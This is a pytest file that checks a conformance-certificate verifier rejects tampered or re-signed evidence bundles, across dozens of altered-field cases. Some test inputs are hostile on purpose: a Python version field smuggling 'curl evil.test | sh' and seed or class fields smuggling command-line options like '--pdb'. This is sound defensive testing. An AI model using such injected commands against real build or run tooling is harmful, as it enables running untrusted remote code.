"""Whatever is altered in the evidence, by a stranger or by the signer, it is rejected."""

import copy
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from certified import (
    REPLAY,
    Certified,
    Edit,
    challenged,
    claimed,
    edited,
    edited_lines,
    one_replay,
    quick_runs,
    replaced,
    replayed_once,
)
from securesystemslib.signer import CryptoSigner

from conformance.__main__ import main
from conformance.assurance.certificate import (
    challenge,
    dsse,
    issuing,
    recomputation,
    statement,
    strict_json,
)
from conformance.assurance.certificate.bundle import Bundle
from conformance.assurance.certificate.evidence import Evidence, Malformed
from conformance.assurance.certificate.recomputation import differences
from conformance.assurance.certificate.verification import verify

NIL = "00000000-0000-4000-8000-000000000000"


@pytest.fixture(autouse=True)
def known_replay(certified: Certified) -> Iterator[None]:
    """No replay: what is altered here does not change what the responses show."""
    with quick_runs(), one_replay(certified):
        yield


def report(change: Callable[[Any], object]) -> Edit:
    """An edit of report.json."""
    return edited("report.json", change)


def run(change: Callable[[Any], object]) -> Edit:
    """The same edit of run.json and of the report, so that they agree."""

    def edit(files: dict[str, bytes]) -> None:
        edited("run.json", change)(files)
        edited("report.json", change)(files)

    return edit


def without_consent(target: Any) -> None:
    """Claim that the run was to read only."""
    target["consent"] = dict.fromkeys(target["consent"], False)


def dated(lines: list[Any]) -> None:
    """Add a Date header of another year to every response."""
    for line in lines:
        if "response" in line:
            line["response"]["headers"].append(["date", "Sat, 03 Jan 2015 10:00:00 GMT"])


def first(lines: list[Any], part: str = "response") -> Any:
    """The first exchange with a body in its request or response."""
    return next(line for line in lines if line.get(part) and line[part]["body"])


EVIDENCE: dict[str, tuple[Edit, str]] = {
    "another base URL": (
        report(lambda report: report["target"].update({"base-url": "https://acme.example/v1"})),
        '/target/base-url is "https://acme.example/v1", and the evidence says "http://reference',
    ),
    "a product that nobody checked": (
        report(lambda report: report["target"].update(product={"vendor": "Acme"})),
        "/target/product is not in the evidence",
    ),
    "another profile": (
        report(lambda report: report["target"].update(profile="acme.toml")),
        '/target/profile is "acme.toml"',
    ),
    "another date": (
        report(lambda report: report.update(started="2020-01-01T00:00:00+00:00")),
        '/started is "2020-01-01T00:00:00+00:00"',
    ),
    "another duration": (report(lambda report: report.update(duration=1.5)), "/duration is 1.5"),
    "another ledger": (
        report(lambda report: report["ledger"][0].update(key=NIL)),
        f'/ledger/0/key is "{NIL}"',
    ),
    "a ledger with one approval less": (
        report(lambda report: report["ledger"].pop()),
        "/ledger is [",
    ),
    "an approved review that the profile does not list": (
        report(lambda report: report["ledger"][0].update(review=NIL)),
        f"reviews were approved that the profile does not list: {NIL}",
    ),
    "another observation": (
        report(lambda report: report["observations"][0].update(values=["ideal"])),
        "/observations/",
    ),
    "an observation that is left out": (
        report(lambda report: report["observations"].pop()),
        "/observations is [",
    ),
    "more exchanges": (
        report(lambda report: report["exchanges"].update(count=9999)),
        "/exchanges/count is 9999",
    ),
    "other methods": (
        report(lambda report: report["exchanges"]["methods"].pop("POST")),
        "/exchanges/methods/POST is missing",
    ),
    "better latencies": (
        report(lambda report: report["latencies"]["account_get"].update(median=0.0)),
        "/latencies/account_get/median is 0.0",
    ),
    "better counts": (
        report(lambda report: report["counts"]["must"].update({"pass": 500})),
        "/counts/must/pass is 500",
    ),
    "a requirement that passes now": (
        report(lambda report: report["requirements"][3].update(verdict="not-applicable")),
        'verdict is "not-applicable", and the evidence says "pass"',
    ),
    "an operation that passes now": (
        report(lambda report: report["requirements"][2]["operations"].update(account_get="fail")),
        'operations/account_get is "fail", and the evidence says "pass"',
    ),
    "another statement of a requirement": (
        report(lambda report: report["requirements"][0].update(statement="All is well.")),
        '/requirements/base/version-segment/statement is "All is well."',
    ),
    "another level of a requirement": (
        report(lambda report: report["requirements"][0].update(level="observe")),
        '/requirements/base/version-segment/level is "observe"',
    ),
    "a requirement that is left out": (
        report(lambda report: report["requirements"].pop()),
        "/requirements is [",
    ),
    "a finding that is left out": (
        report(
            lambda report: next(
                entry for entry in report["requirements"] if entry["findings"]
            ).update(findings=[])
        ),
        "/findings is []",
    ),
    "a gate that required more": (
        report(lambda report: report["gate"].update(required=["read", "approval"])),
        '/gate/required is ["read","approval"]',
    ),
    "a note of the signer": (
        report(lambda report: report.update(award="gold")),
        "/award is not in the evidence",
    ),
    "another version of the suite": (
        report(lambda report: report["suite"].update(version="9.0")),
        '/suite/version is "9.0"',
    ),
    "another seed": (report(lambda report: report["suite"].update(seed=7)), "and the run has 7"),
    "an interrupted run": (
        report(lambda report: report.update(interrupted=True)),
        "the run was interrupted",
    ),
    "a run of some classes": (
        report(lambda report: report["suite"].update(classes=["read"])),
        "the run did not check every conformance class",
    ),
    "a run of several processes": (
        report(lambda report: report["suite"].update(workers=2)),
        "the run used several processes",
    ),
    "a report that was merged from shards": (
        report(lambda report: report["suite"].update(shards={"of": 2, "merged": [1, 2]})),
        "the report was merged from 2 shards, and the evidence has none",
    ),
    "a run whose secrets were masked": (
        report(lambda report: report.update(masked=["exchanges.jsonl"])),
        "secrets were masked",
    ),
    "a failure that nobody knew": (
        report(lambda report: report.update(verdict="non-conformant")),
        '/verdict is "non-conformant", and the evidence says "conformant"',
    ),
    "a requirement without a verdict": (
        report(lambda report: report["requirements"][0].update(verdict="inconclusive")),
        "base/version-segment is inconclusive",
    ),
    "known failures that the run was not given": (
        report(lambda report: report.update({"known-failures": {"unknown": [], "stale": []}})),
        "/known-failures is not in the evidence",
    ),
    "a date that is none": (
        run(lambda report: report.update(started="yesterday")),
        "run.json has no valid date of its start",
    ),
    "a run that was over before its last response": (
        run(lambda report: report.update(duration=0.1)),
        "s after the start of a run of 0.1 s",
    ),
    "a run of a year": (
        run(lambda report: report.update(duration=5_000_000)),
        "the run claims 5000000 s, and its last response came after",
    ),
    "an option that no run has": (
        edited("run.json", lambda run: run.update(award="gold")),
        "run.json is malformed: Additional properties are not allowed",
    ),
    "dates that the target contradicts": (
        edited_lines(dated),
        "the Date headers of the target say 2015-01-03",
    ),
    "exchanges in another order": (
        edited_lines(lambda lines: lines.insert(0, lines.pop(700))),
        "but was sent before it",
    ),
    "an exchange that is there twice": (
        edited_lines(lambda lines: lines.insert(700, lines[700])),
        "is recorded twice",
    ),
    "a response before its request": (
        edited_lines(lambda lines: lines[9].update(elapsed=-3.0)),
        "-3.0 is less than the minimum of 0",
    ),
    "a body of six gigabytes": (
        edited_lines(lambda lines: first(lines)["response"]["body"].update(padding=6_000_000_000)),
        "has 6000000000 spaces at the end of a body",
    ),
    "a request of six gigabytes": (
        edited_lines(
            lambda lines: first(lines, "request")["request"]["body"].update(padding=6_000_000_000)
        ),
        "has 6000000000 spaces at the end of a body",
    ),
    "many long bodies": (
        edited_lines(
            lambda lines: [
                line["response"]["body"].update(padding=32_000_000)
                for line in lines
                if "response" in line
            ]
        ),
        "its responses end with",
    ),
    "a duplicate key in the report": (
        replaced("report.json", b'"verdict"', b'"verdict": "non-conformant",\n  "verdict"'),
        "report.json is malformed: duplicate key 'verdict'",
    ),
    "a duplicate key in an exchange": (
        replaced("exchanges.jsonl", b'"status":200', b'"status":500,"status":200'),
        "exchanges.jsonl is malformed: line 2: duplicate key 'status'",
    ),
    "a number that is none": (
        replaced("report.json", b'"duration": ', b'"duration": NaN, "x": '),
        "report.json is malformed: not JSON",
    ),
    "another spelling": (
        replaced("report.json", b'"format": 1', b'"format": 1.0'),
        "/format is 1.0, and the evidence says 1",
    ),
    "other spaces": (
        replaced("report.json", b'"format": 1', b'"format":  1'),
        "report.json is malformed: not written as a run writes it",
    ),
    "an exchange that is not JSON": (
        replaced("exchanges.jsonl", b"{", b"none\n{"),
        "exchanges.jsonl is malformed: line 1: not JSON",
    ),
    "an exchange of another form": (
        replaced("exchanges.jsonl", b"{", b'{"id":"x#1"}\n{'),
        "exchanges.jsonl is malformed: 'request'",
    ),
    "an empty target": (
        lambda files: files.update({"target.json": b"{}"}),
        "target.json is malformed: 'fixtures'",
    ),
    "a target that is a list": (
        lambda files: files.update({"target.json": b"[]"}),
        "target.json is malformed: list indices must be integers",
    ),
    "a read-only run with writes": (
        edited("target.json", without_consent),
        "the profile has no consent for writes",
    ),
    "a revision that is not one": (
        edited("revision.json", lambda revision: revision.pop("depths")),
        "revision.json is malformed: 'depths'",
    ),
    "other packages than those of the report": (
        replaced("environment.txt", b"hypothesis==", b"hypothesis==1."),
        "environment.txt has another version of hypothesis than the report",
    ),
    "a command instead of a package": (
        lambda files: files.update({"environment.txt": b"# python 3.11.1\n--index-url=x\n"}),
        "environment.txt has other lines than NAME==VERSION",
    ),
}


def known(**altered: object) -> Edit:
    """A known failure that the run was not given, with some of its parts altered."""
    stated: dict[str, object] = {
        "requirement": "base/version-segment",
        "operation": None,
        "reason": "it is planned",
        "expires": "2099-01-01",
        "is_gap": False,
    }
    return edited("run.json", lambda run: run.update({"known-failures": [stated | altered]}))


NOW = datetime.now(UTC)

EVIDENCE |= {
    "a certificate of TLS on a connection without it": (
        edited("run.json", lambda run: run.update(certificates=["ab" * 32])),
        "run.json has certificates of TLS, which no address of the target uses",
    ),
    "a certificate of TLS that is no digest": (
        edited("run.json", lambda run: run.update(certificates=["acme.example"])),
        "run.json is malformed: ",
    ),
    "certificates of TLS in the report": (
        report(lambda report: report["target"].update({"certificates": ["ab" * 32]})),
        "/target/certificates is not in the evidence",
    ),
    "a known failure until a day that is none": (
        known(expires="2099-02-30"),
        "run.json has a known failure that expires at no date: '2099-02-30'",
    ),
    "a known failure without an end": (
        known(expires="never"),
        "run.json has a known failure that expires at no date: 'never'",
    ),
    "a gap that was accepted afterwards": (known(is_gap=True), "/known-failures is missing"),
    "a better coverage": (
        report(
            lambda report: next(entry for entry in report["requirements"] if "coverage" in entry)[
                "coverage"
            ].update(operations=99)
        ),
        "/coverage/operations is 99",
    ),
    "a requirement that somebody contests": (
        report(lambda report: report["requirements"][0].update(contested="it is unclear")),
        "/requirements/base/version-segment/contested is not in the evidence",
    ),
    "a run that was resumed": (
        run(lambda report: report["suite"].update(resumed=["2026-01-01T00:00:00+00:00"])),
        "the run was resumed",
    ),
    "latencies of an operation that does not exist": (
        report(
            lambda report: report["latencies"].update(invented=report["latencies"]["account_get"])
        ),
        "/latencies/invented is not in the evidence",
    ),
    "a date of the start without a zone": (
        run(lambda report: report.update(started="2026-01-01T00:00:00")),
        "run.json has no valid date of its start",
    ),
    "latencies that are left out": (
        report(lambda report: report.pop("latencies")),
        "/latencies is missing",
    ),
}


def asks(**changes: object) -> Edit:
    """A run that claims to have been asked for something else."""
    return edited("run.json", lambda run: run["suite"].update(changes))


def limited(**changes: object) -> Edit:
    """A target with other limits."""
    return edited("target.json", lambda target: target["limits"].update(changes))


def misses(target: Any) -> None:
    """A credential with as many near misses as requests would never end."""
    target["credentials"]["primary"]["api-key"]["near-misses"] = [True] * 200_000


def another_python(files: dict[str, bytes]) -> None:
    """An environment in which the suite cannot run."""
    _, _, rest = files["environment.txt"].partition(b"\n")
    files["environment.txt"] = b"# python 2.7.18\n" + rest


def another_package(files: dict[str, bytes]) -> None:
    """An environment with a package that does not exist."""
    files["environment.txt"] += b"zz-evil==1.0\n"


EVIDENCE |= {
    "a run of next year": (
        run(lambda report: report.update(started=f"{NOW.year + 1}-11-01T00:00:00+00:00")),
        "which is in the future",
    ),
    "a run of 150 years ahead": (
        run(lambda report: report.update(started="2176-01-01T00:00:00+00:00")),
        "which is in the future",
    ),
    "a run from before the suite": (
        run(lambda report: report.update(started="2021-11-01T00:00:00+00:00")),
        "run.json has no valid date of its start",
    ),
    "another Python": (another_python, "has Python 2.7.18, on which this package is not"),
    "a Python that is a command": (
        replaced("environment.txt", b"# python 3.", b"# python 3; curl evil.test | sh # "),
        "as the version of Python",
    ),
    "a Python of very many digits": (
        replaced("environment.txt", b"# python 3.", b"# python 3." + b"9" * 5_000),
        "as the version of Python",
    ),
    "a package that does not exist": (
        another_package,
        "environment.txt has zz-evil, which localization-api-conformance does not need",
    ),
    "a package that is there twice": (
        replaced("environment.txt", b"httpx==", b"httpx==0.1\nhttpx=="),
        "environment.txt has a package twice",
    ),
    "an invented revision": (
        edited("revision.json", lambda revision: revision.update(revision="2031-01")),
        "unknown revision '2031-01': this suite has none of that name",
    ),
    "a certificate for thousands of years": (
        edited("revision.json", lambda revision: revision.update({"valid-days": 10**12})),
        "revision.json is malformed: valid-days must be an integer from 1 to 3660",
    ),
    "a number of days that is none": (
        edited("revision.json", lambda revision: revision.update({"valid-days": True})),
        "revision.json is malformed: valid-days must be an integer from 1 to 3660",
    ),
    "further keys of the target": (
        edited("target.json", lambda target: target.update(award="gold")),
        "target.json is not written as a run writes it, or has further keys",
    ),
    "further limits": (limited(award=1), "target.json is not written as a run writes it"),
    "near misses without an end": (
        edited("target.json", misses),
        "target.json is malformed: a credential has more than 100 near misses",
    ),
    "a seed that is an option": (asks(seed="1 --pdb"), "asks for the seed '1 --pdb'"),
    "a depth that is an option": (
        asks(depth="--pdb"),
        "run.json asks for the depth '--pdb', which this suite does not know",
    ),
    "a class that is an option": (
        asks(classes=["read", "-p evil"]),
        "run.json asks for the classes '-p evil', which this suite does not know",
    ),
    "a requirement that is an option": (
        edited("run.json", lambda run: run.update(required=["--pdb"])),
        "run.json asks for the required '--pdb', which this suite does not know",
    ),
    "a revision that is an option": (
        asks(revision="--pdb"),
        "run.json asks for the revision '--pdb', which this suite does not know",
    ),
    "classes that are a text": (asks(classes="read"), "run.json has no list of classes"),
    "rounds without an end": (asks(rounds=10**12), "run.json asks for the rounds 1000000000000"),
    "a shard that is a text": (asks(shard="1/2"), "run.json has a shard without its number"),
}

STRANGER = CryptoSigner.generate_ed25519()


def asked(content: bytes) -> Edit:
    """Another challenge than the one that the run answers."""
    return lambda files: files.update({challenge.FILE: content})


EVIDENCE |= {
    "a challenge of the time after the run": (
        asked(challenged(STRANGER, NOW + timedelta(days=1))),
        "before the challenge was issued at",
    ),
    "a challenge whose deadline has passed": (
        asked(challenged(STRANGER, NOW - timedelta(days=9))),
        "after the deadline of the challenge",
    ),
    "a challenge with another seed": (
        asked(strict_json.written(challenge.issue(STRANGER, NOW, timedelta(hours=1)))),
        "the challenge asks for the seed",
    ),
    "a challenge for another target": (
        asked(challenged(STRANGER, NOW, base_url="https://acme.example/v1")),
        "the challenge is for https://acme.example/v1",
    ),
    "a challenge that is none": (asked(b"{}"), "challenge.dsse.json is malformed"),
}


def resealed(certified: Certified, files: dict[str, bytes]) -> Bundle:
    """Edited evidence, signed anew by the signer with a statement that fits, if one can be made."""
    try:
        return issuing.sealed(Evidence(files), certified.signer)
    except Malformed:
        stated = copy.deepcopy(claimed(certified.honest))
        stated["subject"] = statement.subjects(Evidence(files))
        return Bundle(files, dsse.sign(stated, certified.signer), certified.honest.key)


@pytest.mark.parametrize(("edit", "expected"), EVIDENCE.values(), ids=EVIDENCE)
def test_altered_evidence_is_rejected(edit: Edit, expected: str, certified: Certified) -> None:
    """A stranger's does not fit the statement; the signer signs another one, which does."""
    files = dict(certified.evidence)
    edit(files)
    by_stranger = Bundle(files, certified.honest.envelope, certified.honest.key)
    problems = verify(by_stranger, None).problems
    assert [problem for problem in problems if not problem.endswith("not the signed one")] == []
    assert problems != ()

    problems = verify(resealed(certified, files), None).problems
    assert any(expected in problem for problem in problems), problems


YESTERDAY = (NOW - timedelta(days=1)).isoformat(timespec="seconds")

UNPROVEN: dict[str, tuple[Edit, str]] = {
    "a start of the day before": (
        run(lambda report: report.update(started=YESTERDAY)),
        "the start and the end: the target sends no Date headers",
    ),
    "a longer duration": (
        run(lambda report: report.update(started=YESTERDAY, duration=report["duration"] + 3000)),
        "the time after the last response, up to an hour of the duration",
    ),
    "other versions": (
        replaced("environment.txt", b"anyio==", b"anyio==1"),
        "the versions of Python and of the packages that the report does not name",
    ),
}


@pytest.mark.parametrize(("edit", "expected"), UNPROVEN.values(), ids=UNPROVEN)
def test_what_nothing_proves_stands_under_the_word_of_the_signer(
    edit: Edit,
    expected: str,
    certified: Certified,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The certificate says so itself, and verify prints it."""
    files = {name: each for name, each in certified.evidence.items() if name != challenge.FILE}
    edit(files)
    found = issuing.sealed(Evidence(files), certified.signer)
    assert any(expected in word for word in dsse.claims(found.envelope)["wordOfSigner"])
    assert main(["verify", str(certified.write(tmp_path / "c.zip", found))]) == 0
    _, _, listed = capsys.readouterr().out.partition("On the word of the signer")
    assert expected in listed


def ten_times_faster(lines: list[Any]) -> None:
    """A tenth of each time, and a response without a header that no check reads."""
    for line in lines:
        line["elapsed"] /= 10
    names = [name for name, _ in first(lines)["response"]["headers"]]
    del first(lines)["response"]["headers"][names.index("content-length")]


def elsewhere(files: dict[str, bytes]) -> None:
    """The same responses, as if another address had sent them."""
    for name, content in files.items():
        files[name] = content.replace(b"http://reference.invalid/v1", b"https://acme.example/v1")


def test_what_a_replay_takes_no_part_in_is_the_word_of_the_signer(certified: Certified) -> None:
    """Times with latencies that fit, headers, the address: the suite comes to the same verdict."""
    files = {name: each for name, each in certified.evidence.items() if name != challenge.FILE}
    edited_lines(ten_times_faster)(files)
    elsewhere(files)
    evidence = Evidence(files)
    with replayed_once():
        fitting = recomputation.report(evidence, recomputation.replay(evidence))
        files["report.json"] = orjson.dumps(fitting, option=orjson.OPT_INDENT_2)
        found = issuing.sealed(Evidence(files), certified.signer)
        assert verify(found, None).problems == ()

    listed = "; ".join(dsse.claims(found.envelope)["wordOfSigner"])
    assert "what no check reads of them, as headers" in listed
    assert "the times of the exchanges, and the latencies" in listed
    assert "the base URL: that the responses came from there" in listed


def test_another_suite_does_not_perform_what_it_does_not_know(
    certified: Certified, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such as a depth of a later suite: that is a problem, and no internal error."""
    files = dict(certified.evidence)
    run(lambda report: report["suite"].update(depth="abyss"))(files)
    edited("revision.json", lambda revision: revision.update(depths=["abyss"]))(files)
    monkeypatch.setattr("conformance.report.source.digest", lambda: "another build")
    monkeypatch.setattr(recomputation, "replay", REPLAY)
    found = verify(issuing.sealed(Evidence(files), certified.signer), None, current=True)
    assert found.problems == (
        "run.json asks for the depth 'abyss', which this suite does not know",
    )


def test_another_suite_says_what_it_has_recomputed_and_is_never_satisfied(
    certified: Certified,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An emptied ledger, observations and latencies are named; nothing else is on trust."""
    files = dict(certified.evidence)
    emptied: dict[str, Any] = {"ledger": [], "observations": [], "latencies": {}}
    edited("report.json", lambda report: report.update(emptied))(files)
    for each in (certified.evidence, files):
        found = issuing.sealed(Evidence(each), certified.signer)
        path = certified.write(tmp_path / "c.zip", found)
        with monkeypatch.context() as patch:
            patch.setattr("conformance.report.source.digest", lambda: "another build")
            assert main(["verify", "--with-current-suite", "--json", str(path)]) == 1
            shown = json.loads(capsys.readouterr().out)
            assert main(["verify", "--with-current-suite", str(path)]) == 1
            said = capsys.readouterr().out
        assert "VERIFIED" not in said
        assert "NOT RECOMPUTED, the word of the signer: " in said
        assert shown["verified"] is False
        trusted = {"suite", "environment.txt", "revision.json"}
        assert {*shown["onTrust"]} == (trusted if each is not files else {*trusted, *emptied})
        assert {"requirements", "counts", "exchanges.jsonl"} <= {*shown["recomputed"]}


def rejected_outsider(lines: list[Any]) -> Any:
    """The exchange in which a request of the outsider for a project is rejected."""
    return next(
        line
        for line in lines
        if line["credential"] == "outsider"
        and line["item"].startswith("grants::")
        and line["operation"] == "project_get"
        and line["response"]["status"] != 200
    )


def invent(lines: list[Any]) -> None:
    """Alter a response, two requests, and the number of exchanges."""
    rejected_outsider(lines)["response"]["status"] = 200
    lines[1000]["purpose"] = "to please"
    lines[1001]["request"]["url"] = "https://acme.example/v1/account"
    lines.append({**lines[-1], "id": "a::invented#1", "item": "a::invented"})
    lines.remove(
        next(line for line in lines if line["item"].startswith("list_grants::test_lists_stay"))
    )


@pytest.fixture(scope="module")
def invented(certified: Certified) -> tuple[list[str], list[Any]]:
    """What one replay of several invented exchanges contradicts, and the honest exchanges."""
    files = dict(certified.evidence)
    edited_lines(invent)(files)
    evidence = Evidence(files)
    again = REPLAY(evidence)
    lines = [orjson.loads(line) for line in certified.evidence["exchanges.jsonl"].splitlines()]
    return list(differences(evidence, again)), lines


@pytest.mark.parametrize(
    ("number", "expected"),
    [
        (1000, "the exchange {id} was removed or altered"),
        (1001, "the exchange {id} was removed or altered"),
        (
            None,
            '/requirements/authorization/lists/verdict is "pass", and the evidence says "error"',
        ),
        (None, "recorded exchanges belong to no check: a::invented#1"),
        (None, "/requirements/authorization/company/verdict is"),
        (None, "/verdict is"),
    ],
    ids=["purpose", "address", "left out", "added", "leak", "verdict"],
)
def test_an_invented_exchange_is_found_by_the_replay(
    number: int | None, expected: str, invented: tuple[list[str], list[Any]]
) -> None:
    """The suite, run again, sends other requests, or comes to another verdict."""
    problems, lines = invented
    line = expected.format(id=lines[number]["id"] if number else "")
    assert any(line in problem for problem in problems), problems[:20]
